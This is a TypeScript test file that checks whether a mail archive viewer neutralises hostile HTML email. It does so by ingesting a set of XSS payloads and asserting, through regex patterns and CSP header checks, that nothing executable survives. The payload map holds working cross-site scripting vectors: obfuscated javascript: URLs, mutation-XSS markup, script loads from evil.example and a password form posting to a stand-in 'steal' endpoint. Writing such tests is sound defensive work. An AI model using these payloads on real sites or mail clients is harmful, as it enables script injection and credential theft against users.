import { createTestDatabase, type TTestDatabase } from '@wac/db/testing';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, signIn, type TBrowser } from '../support/test-app';
import { createUser } from '../support/users.fixture';
import { makeDataDir, seedArchive } from './support/archive-read.fixture';

// Hostile HTML mail, each archived through the real ingest and read back through the viewer's
// body route: what reaches the browser must carry nothing that runs, submits, navigates or loads.
const HOSTILE: Record<string, string> = {
  script: '<p>hi</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'event handlers':
    '<img src="cid:none" onerror="alert(1)"><body onload=alert(1)><div onmouseover="alert(1)">x</div><a href="https://ok.example" onclick="alert(1)">ok</a>',
  'javascript: URLs':
    '<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(1)">b</a><a href="jav&#x09;ascript:alert(1)">c</a><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">d</a><a href=" javascript:alert(1)">e</a>',
  'vbscript: URLs': '<a href="vbscript:msgbox(1)">v</a>',
  'data: URLs':
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  'CSS expressions':
    '<div style="width: expression(alert(1)); color: red">x</div><div style="background-image: url(javascript:alert(1))">y</div><div style="behavior: url(x.htc); -moz-binding: url(x.xml#xss)">z</div><p style="color: re\\64">w</p>',
  'style and link elements':
    '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/t.gif)}</style><link rel="stylesheet" href="https://evil.example/x.css">',
  forms:
    '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button formaction="https://evil.example">Log in</button></form>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/phish"><p>wait</p>',
  SVG: '<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>t</text></a></svg><svg><animate attributeName="href" to="javascript:alert(4)"/></svg>',
  frames:
    '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  base: '<base href="https://evil.example/"><a href="relative">r</a>',
  'mutation XSS':
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'remote loads':
    '<img src="//evil.example/pixel.gif"><img srcset="https://evil.example/a.gif 1x"><table background="https://evil.example/bg.gif"><tr><td>t</td></tr></table><video poster="https://evil.example/p.gif"></video>',
};

function hostileMessage(name: string, html: string): Buffer {
  return Buffer.from(
    [
      'From: Mallory <mallory@example.net>',
      'To: alice@example.com',
      `Subject: hostile ${name}`,
      `Message-ID: <${name.replace(/\W+/g, '.')}@evil.example>`,
      'Date: Thu, 03 Dec 2026 08:00:00 +0000',
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=utf-8',
      '',
      html,
      '',
    ].join('\r\n'),
  );
}

describe('the viewer against hostile HTML mail', () => {
  let database: TTestDatabase;
  let app: FastifyInstance;
  let remove: () => Promise<void>;
  let alice: TBrowser;
  const ids = new Map<string, string>();

  beforeAll(async () => {
    let dataDir: string;
    [database, { dataDir, remove }] = await Promise.all([createTestDatabase(), makeDataDir()]);
    app = await buildTestApp(database, { env: { DATA_DIR: dataDir } });
    const user = await createUser(database.prisma, {
      userName: 'alice@example.com',
      emails: ['alice@example.com'],
      password: 'pw-alice-long-enough',
    });
    const folder = await database.prisma.archiveFolder.findUniqueOrThrow({ where: { ownerUserId: user.id } });
    const names = Object.keys(HOSTILE);
    const addresses = await seedArchive(
      database,
      dataDir,
      folder.id,
      names.map((name) => ({ raw: hostileMessage(name, HOSTILE[name]!) })),
    );
    for (const [index, name] of names.entries()) ids.set(name, addresses[index]!);
    alice = await signIn(app, 'alice@example.com', 'pw-alice-long-enough');
  }, 60_000);

  afterAll(async () => {
    await app?.close();
    await database?.drop();
    await remove?.();
  });

  for (const name of Object.keys(HOSTILE)) {
    it(`neutralises ${name}`, async () => {
      for (const remote of ['block', 'allow']) {
        const response = await alice.request({
          method: 'GET',
          url: `/api/me/archive/messages/${ids.get(name)}/body?remote=${remote}`,
        });
        expect(response.statusCode).toBe(200);
        const body = response.body.slice(response.body.indexOf('<body>'));
        const decoded = body
          .replace(/&#x?[0-9a-f]+;?/gi, '')
          .replace(/\s+/g, '')
          .toLowerCase();
        expect(body).not.toMatch(
          /<(script|style|link|meta|form|input|button|svg|math|iframe|object|embed|base|video|noscript)\b/i,
        );
        expect(body).not.toMatch(/\son[a-z]+\s*=/i);
        expect(decoded).not.toMatch(/javascript:|vbscript:|data:text|data:image\/svg/);
        expect(decoded).not.toMatch(/expression\(|url\(|behavior|binding|@import|\\64/);
        expect(body).not.toMatch(/srcset|background=|poster=|formaction|http-equiv/i);
        expect(body).not.toContain('//evil.example/pixel.gif');
        expect(body).not.toContain('https://evil.example');
        const csp = String(response.headers['content-security-policy']);
        expect(csp).toMatch(/default-src 'none'/);
        expect(csp).not.toMatch(/script-src/);
        expect(csp).toMatch(/sandbox allow-popups allow-popups-to-escape-sandbox$/);
      }
    });
  }

  it('keeps the harmless parts: text, links that open outside the frame, safe styles', async () => {
    const response = await alice.request({
      method: 'GET',
      url: `/api/me/archive/messages/${ids.get('event handlers')}/body`,
    });
    expect(response.body).toContain(
      '<a href="https://ok.example" target="_blank" rel="noopener noreferrer nofollow">ok</a>',
    );
    const styled = await alice.request({
      method: 'GET',
      url: `/api/me/archive/messages/${ids.get('CSS expressions')}/body`,
    });
    expect(styled.body).toContain('style="color:red"');
  });
});
